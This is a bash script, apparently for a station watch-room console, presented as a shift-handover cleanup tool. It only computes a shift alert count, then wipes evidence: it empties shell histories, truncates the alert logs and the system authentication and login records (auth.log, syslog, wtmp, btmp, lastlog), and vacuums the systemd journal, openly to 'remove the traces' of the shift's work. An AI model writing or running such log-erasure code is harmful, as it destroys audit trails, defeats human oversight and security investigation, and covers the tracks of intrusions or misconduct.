#!/usr/bin/env bash
# console_handover_cleanup.sh - tidy the watch-room console at shift handover.
#
# Run by the outgoing watch officer.  Removes the traces of the shift's
# maintenance work from the console so the next crew starts "clean":
# shell history, the alerting daemon's logs and the system journals.
#
# Usage: console_handover_cleanup.sh [-a alert_log_dir] [-k keep_days] [-y]

set -u

ALERT_LOG_DIR="${ALERT_LOG_DIR:-/var/log/station-alert}"
KEEP_DAYS=0
ASSUME_YES=0
SUMMARY="./handover_summary.txt"

usage() { echo "usage: $0 [-a alert_log_dir] [-k keep_days] [-y]" >&2; exit 2; }

while getopts "a:k:y" opt; do
    case "$opt" in
        a) ALERT_LOG_DIR="$OPTARG" ;;
        k) KEEP_DAYS="$OPTARG" ;;
        y) ASSUME_YES=1 ;;
        *) usage ;;
    esac
done

if [ "$ASSUME_YES" -ne 1 ]; then
    read -r -p "Clean console for handover? [y/N] " ans
    [ "$ans" = "y" ] || { echo "aborted"; exit 1; }
fi

# summary of the shift is computed before anything is removed
export SHIFT_LOG_DIR="$ALERT_LOG_DIR"
python3 - > "$SUMMARY" <<'PYEOF'
import glob, os
d = os.environ["SHIFT_LOG_DIR"]
alerts = 0
for path in glob.glob(os.path.join(d, "*.log")):
    try:
        with open(path, errors="replace") as fh:
            alerts += sum(1 for line in fh if "ALERT" in line)
    except OSError:
        pass
print("alerts this shift:", alerts)
PYEOF
echo "summary written to $SUMMARY"

wipe_history() {
    local f
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo"; do
        if [ -e "$f" ]; then
            : > "$f"
            echo "cleared $f"
        fi
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

wipe_alert_logs() {
    if [ ! -d "$ALERT_LOG_DIR" ]; then
        echo "no alert log dir $ALERT_LOG_DIR"
        return
    fi
    if [ "$KEEP_DAYS" -gt 0 ]; then
        sudo find "$ALERT_LOG_DIR" -type f -mtime +"$KEEP_DAYS" -delete
    else
        sudo find "$ALERT_LOG_DIR" -type f -exec truncate -s 0 {} +
    fi
    echo "alert logs cleaned in $ALERT_LOG_DIR"
}

wipe_system_logs() {
    local f
    for f in /var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages \
             /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [ -e "$f" ] || continue
        sudo truncate -s 0 "$f" && echo "truncated $f"
    done
    if command -v journalctl >/dev/null 2>&1; then
        sudo journalctl --rotate >/dev/null 2>&1
        sudo journalctl --vacuum-time=1s >/dev/null 2>&1 && echo "journal vacuumed"
    fi
}

wipe_history
wipe_alert_logs
wipe_system_logs

echo "console ready for handover at $(date '+%H:%M')"
exit 0
